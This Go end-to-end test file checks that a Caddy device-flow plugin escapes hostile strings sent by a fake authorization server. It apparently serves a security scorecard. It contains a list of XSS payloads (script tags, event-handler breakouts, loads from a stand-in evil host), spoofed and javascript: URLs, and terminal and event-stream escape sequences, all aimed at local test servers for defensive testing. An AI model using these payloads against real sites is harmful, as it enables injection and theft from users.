package e2e

import (
	"bufio"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// scribbler is an authorization server that writes what it is told into every member of its answers.
type scribbler struct {
	*httptest.Server

	mu     sync.Mutex
	device map[string]any
	token  map[string]any // the answer to a poll; with an "error" member it is a 400
}

func startScribbler(t *testing.T) *scribbler {
	t.Helper()
	s := new(scribbler)
	s.Server = httptest.NewServer(s)
	t.Cleanup(s.Close)
	return s
}

// ServeHTTP implements http.Handler.
func (s *scribbler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	answer := s.device
	if r.URL.Path == "/token" {
		answer = s.token
	}
	s.mu.Unlock()
	w.Header().Set("Content-Type", "application/json")
	if answer["error"] != nil {
		w.WriteHeader(http.StatusBadRequest)
	}
	_ = json.NewEncoder(w).Encode(answer)
}

// offer is the device response from now on. Nobody approves.
func (s *scribbler) offer(userCode, uri, complete string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.device = map[string]any{
		"device_code": "device-code", "user_code": userCode, "verification_uri": uri, "verification_uri_complete": complete,
		"interval": 0.2, "expires_in": 600,
	}
	s.token = map[string]any{"error": "authorization_pending"}
}

// answer is what polls get from now on.
func (s *scribbler) answer(token map[string]any) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.token = token
}

// granted is a token response whose id_token has these claims.
func granted(scope []string, claims map[string]string) map[string]any {
	payload, err := json.Marshal(claims)
	if err != nil {
		panic(err) // strings always encode
	}
	return map[string]any{
		"access_token": "token", "token_type": "Bearer", "expires_in": 3600, "scope": scope,
		"id_token": "e30." + base64.RawURLEncoding.EncodeToString(payload) + ".x",
	}
}

// scribbled is a site whose authorization server is a scribbler.
const scribbled = `
{
	log {
		format console
	}
}
http://:{$PORT} {
	bind 127.0.0.1
	device_flow {$API} {
		device_authorization_endpoint {$ISSUER}/device
		token_endpoint {$ISSUER}/token
		client_id device
		scope openid
	}
}
`

// order lets the admin API do something with the session.
func (c *caddy) order(t *testing.T, verb string) {
	t.Helper()
	if res := c.ask(t, http.MethodPost, "/device_flow/sessions/default/"+verb); res.status >= 300 {
		t.Fatalf("%s: %d %s", verb, res.status, res.body)
	}
}

// markup are strings that run a script, load something or break out of an attribute where they are not escaped. They
// are short, so that the page shows the whole of them, and leave their mark in the variable pwn or at {EVIL}.
var markup = []string{
	`<script>pwn=1</script>`,
	`<img src=x onerror=pwn=1>`,
	`"><img src=x onerror=pwn=1>`,
	`'><svg onload=pwn=1>`,
	`" autofocus onfocus="pwn=1" x="`,
	`'onmouseover='pwn=1'x='`,
	"`onclick=`pwn=1`",
	`</title></main></p><script>pwn=1</script>`,
	`--><script>pwn=1</script><!--`,
	`]]></desc></svg><script>pwn=1</script>`,
	`</script><script>pwn=1</script>`,
	`<img src="//{EVIL}/a">`,
	`<script src="//{EVIL}/b"></script>`,
	`<iframe src="//{EVIL}/c"></iframe>`,
	`<link rel=stylesheet href="//{EVIL}/d">`,
	`<style>@import"//{EVIL}/e"</style>`,
	`<base href="//{EVIL}/">`,
	`<meta http-equiv=refresh content="0;//{EVIL}/f">`,
	`<form action="//{EVIL}/g"><input name=x>`,
	`<details open ontoggle=pwn=1>`,
	`<iframe srcdoc="<script>top.pwn=1</script>">`,
	`&lt;script&gt;pwn=1&lt;/script&gt;&#34;`,
	`{{.Token}}${pwn=1}`,
	`\u003cscript\u003epwn=1\u003c/script\u003e`,
	`javascript:pwn=1//`,
}

// strange lists what does not belong on a page: an element or attribute that no harmless page has, a link to anywhere
// but the login server, a reference to another origin, a mark of a script.
const strange = `((tags, attributes) => {
	const bad = [];
	if (window.pwn !== undefined) bad.push('a script ran');
	for (const e of document.querySelectorAll('*')) {
		if (!tags.includes(e.localName)) bad.push('<' + e.localName + '>');
		for (const a of e.attributes) {
			if (!attributes.includes(a.name)) bad.push('<' + e.localName + ' ' + a.name + '>');
			if (!['href', 'src', 'action', 'formaction', 'data', 'poster', 'srcset', 'xlink:href'].includes(a.name)) continue;
			const to = new URL(a.value, location.href);
			const login = e.localName === 'a' && to.protocol === 'https:' && to.host === 'login.example.com';
			if (to.origin !== location.origin && !login) bad.push('<' + e.localName + ' ' + a.name + '="' + a.value + '">');
		}
	}
	return bad;
})(%s, %s)`

// seenHere collects the elements and attributes of the page.
const seenHere = `(() => {
	const tags = new Set(), attributes = new Set();
	for (const e of document.querySelectorAll('*')) {
		tags.add(e.localName);
		for (const a of e.attributes) attributes.add(a.name);
	}
	return [[...tags], [...attributes]];
})()`

// viewer is a tab that looks at the status page.
type viewer struct {
	name string
	base string
	tab  context.Context
}

// TestStringsOfTheServerAreTextInABrowser is S31 of the scorecard. The same pages are looked at as they are, and without
// their Content-Security-Policy, where the escaping has to do alone.
func TestStringsOfTheServerAreTextInABrowser(t *testing.T) {
	parallel(t)
	browser := startBrowser(t)
	as, a := startScribbler(t), startAPI(t, func(string) bool { return true })
	c := startCaddy(t, scribbled, as.URL, a.URL)

	var fetched atomic.Int32
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { fetched.Add(1) }))
	t.Cleanup(evil.Close)
	target, err := url.Parse(c.url)
	if err != nil {
		t.Fatal(err)
	}
	naked := httptest.NewServer(&httputil.ReverseProxy{
		Rewrite: func(r *httputil.ProxyRequest) {
			r.SetURL(target)
			r.Out.Host = r.In.Host
		},
		ModifyResponse: func(res *http.Response) error {
			res.Header.Del("Content-Security-Policy")
			return nil
		},
	})
	t.Cleanup(naked.Close)
	t.Cleanup(naked.CloseClientConnections) // or Close would wait for the stream of events

	viewers := []viewer{{"as it is", c.url, browser}, {"without the policy", naked.URL, newTab(t, browser)}}
	tags, attributes := map[string]bool{}, map[string]bool{}
	learn := true
	look := func(v viewer, what, payload string, want ...string) {
		t.Helper()
		text := evaluate[string](t, v.tab, "document.documentElement.textContent")
		for _, w := range want {
			if !strings.Contains(text, w) {
				t.Fatalf("%s, %s: %q: the page does not show %q\n%s", v.name, what, payload, w, source(v.tab))
			}
		}
		if learn {
			seen := evaluate[[2][]string](t, v.tab, seenHere)
			for i, into := range []map[string]bool{tags, attributes} {
				for _, name := range seen[i] {
					into[name] = true
				}
			}
			return
		}
		if bad := evaluate[[]string](t, v.tab, fmt.Sprintf(strange, list(tags), list(attributes))); len(bad) > 0 {
			t.Errorf("%s, %s: %q: %q\n%s", v.name, what, payload, bad, source(v.tab))
		}
	}
	// visit looks at the page that is open, when it has changed by itself, and at a fresh one.
	visit := func(what, payload string, want ...string) {
		t.Helper()
		for _, v := range viewers {
			waitFor(t, v.tab, fmt.Sprintf("!!document.documentElement?.textContent.includes(%s)", quoted(want[0])))
			look(v, what+", live", payload, want...)
			browse(t, v.tab, what, chromedp.Navigate(v.base+"/.device-flow?refresh"))
			look(v, what, payload, want...)
		}
	}
	refused := func(payload string) {
		t.Helper()
		for _, v := range viewers {
			browse(t, v.tab, "a call", chromedp.Navigate(v.base+"/"))
			look(v, "a caller's 503", payload, "UC")
			browse(t, v.tab, "back", chromedp.Navigate(v.base+"/.device-flow?refresh"))
		}
	}

	for _, v := range viewers {
		browse(t, v.tab, "opening the page", chromedp.Navigate(v.base+"/.device-flow?refresh"))
	}
	evilHost := strings.TrimPrefix(evil.URL, "http://")
	for _, p := range append([]string{"harmless", "harmless/path"}, markup...) {
		p := strings.ReplaceAll(p, "{EVIL}", evilHost)
		uri := p // once as it is, once behind what makes a good address of it
		if strings.HasPrefix(p, "harmless") {
			uri = "https://login.example.com/" + p
		}
		as.offer("UC"+p, uri, "https://login.example.com/activate?user_code="+p)
		c.order(t, "login")
		visit("a code", p, "UC"+p)
		refused(p)

		as.answer(map[string]any{"error": "EC" + p, "error_description": "ED" + p, "error_uri": p})
		visit("an error", p, "ED"+p, "EC"+p)

		as.offer("UC"+p, "https://login.example.com/activate?"+p, p)
		c.order(t, "login")
		visit("another code", p, "UC"+p)
		as.answer(granted([]string{"SC" + p, p}, map[string]string{"sub": "SU" + p, "name": "NA" + p, "email": "EM" + p, "iss": p}))
		visit("a login", p, "NA"+p, "EM"+p, "SC"+p)
		c.order(t, "logout")
		learn = strings.HasPrefix(p, "harmless") && p != "harmless/path"
	}
	if n := fetched.Load(); n > 0 {
		t.Errorf("%d requests to another host", n)
	}
}

// list is the keys of a set as a JavaScript array.
func list(set map[string]bool) string {
	var names []string
	for name := range set {
		names = append(names, name)
	}
	return quoted(names)
}

// quoted is a value as JavaScript writes it.
func quoted(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err) // strings always encode
	}
	return string(b)
}

// badAddresses are what nobody shall be sent to. The page shows them, for whoever wants to type them.
var badAddresses = map[string]string{ // to what is shown of it at least
	"javascript:pwn=1":                               "javascript:pwn=1",
	"data:text/html,<script>top.pwn=1</script>":      "data:text/html",
	"http://login.example.com/activate":              "http://login.example.com/activate",
	"//evil.example/activate":                        "//evil.example/activate",
	"https://login.example.com@evil.example/":        "login.example.com@evil.example",
	"https://\u0430pple.example/activate":            "pple.example/activate",
	`https:\\evil.example\activate`:                  "evil.example",
	"https://e.example/" + strings.Repeat("a", 4096): "https://e.example/aaa",
}

// TestAddressesOfTheServerAreNotOpened is S32 of the scorecard: no link and no QR code, and still a page that one can
// log in with.
func TestAddressesOfTheServerAreNotOpened(t *testing.T) {
	parallel(t)
	tab := startBrowser(t)
	as, a := startScribbler(t), startAPI(t, func(string) bool { return true })
	c := startCaddy(t, scribbled, as.URL, a.URL)
	const outside = `[...document.links].map(a => a.href)`
	const drawing = `[...document.querySelectorAll('svg')].some(e => e.getBoundingClientRect().width >= 80)`
	good := "https://login.example.com/activate"
	badAddresses[good] = "login.example.com/activate"
	for uri, shown := range badAddresses {
		as.offer("ABCD-EFGH", uri, uri)
		c.order(t, "login")
		browse(t, tab, "opening the page", chromedp.Navigate(c.url+"/.device-flow?refresh"))
		text := evaluate[string](t, tab, "document.body.innerText")
		if !strings.Contains(text, "ABCD-EFGH") || !strings.Contains(text, shown) {
			t.Errorf("%.60q: the page does not show code and address:\n%s", uri, text)
		}
		links, drawn := evaluate[[]string](t, tab, outside), evaluate[bool](t, tab, drawing)
		if (len(links) > 0) != (uri == good) || drawn != (uri == good) {
			t.Errorf("%.60q: links to %.200q, QR code: %t", uri, links, drawn)
		}
		if wide := evaluate[bool](t, tab, "document.documentElement.scrollWidth > innerWidth"); wide {
			t.Errorf("%.60q: the page is wider than the window", uri)
		}
		evaluate[chromedp.Void](t, tab, "document.getElementById('copy').click()") // the script is alive
		waitFor(t, tab, "/copied/i.test(document.getElementById('copy').textContent)")
		as.answer(map[string]any{"error": "expired_token"})
		eventually(t, patience, "the code ends", func() bool { return c.status(t).Login == nil })
	}
}

// levels are what Caddy writes for a terminal.
var levels = regexp.MustCompile(`\x1b\[3\dm[A-Z]+\x1b\[0m`)

// TestStringsOfTheServerSteerNothing is S33 of the scorecard: neither a terminal, on which the log, the plain page or a
// refusal is read, nor the stream of events.
func TestStringsOfTheServerSteerNothing(t *testing.T) {
	parallel(t)
	as, a := startScribbler(t), startAPI(t, func(string) bool { return true })
	c := startCaddy(t, scribbled, as.URL, a.URL)
	const evil = "AB\x1b[2J\x1b]0;title\x07\u009b31m\u202eCD\u2066\u200b\x7f\r\n\ndata: {}\n\nevent: status\r\rEF\u2028GH"
	steers := func(text string) bool {
		return strings.ContainsAny(text, "\x00\x07\x08\x0b\x0c\r\x1b\x7f\u0085\u009b\u202e\u2066\u200b\u2028\ufeff")
	}
	check := func(phase string, want ...string) {
		t.Helper()
		for _, path := range []string{"/", "/.device-flow?refresh"} {
			for _, accept := range []string{"text/plain", "text/html"} {
				body := get(t, client(t), c.url+path, accept).body
				if steers(body) {
					t.Errorf("%s: %s as %s: %q", phase, path, accept, body)
				}
				for _, w := range want {
					if path != "/" && !strings.Contains(body, w) {
						t.Errorf("%s: %s as %s does not show %q:\n%s", phase, path, accept, w, body)
					}
				}
			}
		}
		// Caddy itself colours its levels, and nothing else.
		if out := levels.ReplaceAllString(c.output.String(), ""); steers(out) {
			t.Errorf("%s: in the log: %q", phase, out)
		}
		if st := c.eventOf(t); st.Session != "default" {
			t.Errorf("%s: the event is of %+v", phase, st)
		}
	}

	as.offer(evil, "https://login.example.com/"+evil, evil)
	c.order(t, "login")
	if got := c.eventOf(t); got.Login == nil || got.Login.UserCode != evil {
		t.Errorf("the event has the code %+v", got.Login)
	}
	check("a code", "AB[2J", "CD")
	if !strings.Contains(c.output.String(), "AB[2J") {
		t.Error("the log does not name the code")
	}
	as.answer(map[string]any{"error": "EC" + evil, "error_description": "ED" + evil, "error_uri": evil})
	eventually(t, patience, "the login fails", func() bool { return c.status(t).Error != nil })
	check("an error", "ECAB[2J", "EDAB[2J")
	as.offer("code", "https://login.example.com/", "")
	c.order(t, "login")
	as.answer(granted([]string{"SC" + evil}, map[string]string{"sub": evil, "name": "NA" + evil, "email": evil, "iss": evil}))
	c.login(t)
	check("a login", "NAAB[2J", "SCAB[2J")
}

// eventOf reads the stream up to the end of its first event, which has to hold the whole status.
func (c *caddy) eventOf(t *testing.T) (st status) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
	defer cancel()
	r, err := http.NewRequestWithContext(ctx, http.MethodGet, c.url+"/.device-flow/events", nil)
	if err != nil {
		t.Fatal(err)
	}
	res, err := client(t).Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	var block []string
	lines := bufio.NewScanner(res.Body)
	for lines.Scan() && (lines.Text() != "" || len(block) == 0 || !strings.HasPrefix(block[len(block)-1], "data:")) {
		block = append(block, lines.Text())
	}
	for _, line := range block {
		data, isData := strings.CutPrefix(line, "data: ")
		if strings.Contains(line, "\r") || isData && json.Unmarshal([]byte(data), &st) != nil {
			t.Errorf("the event is %q", block)
		}
	}
	return st
}
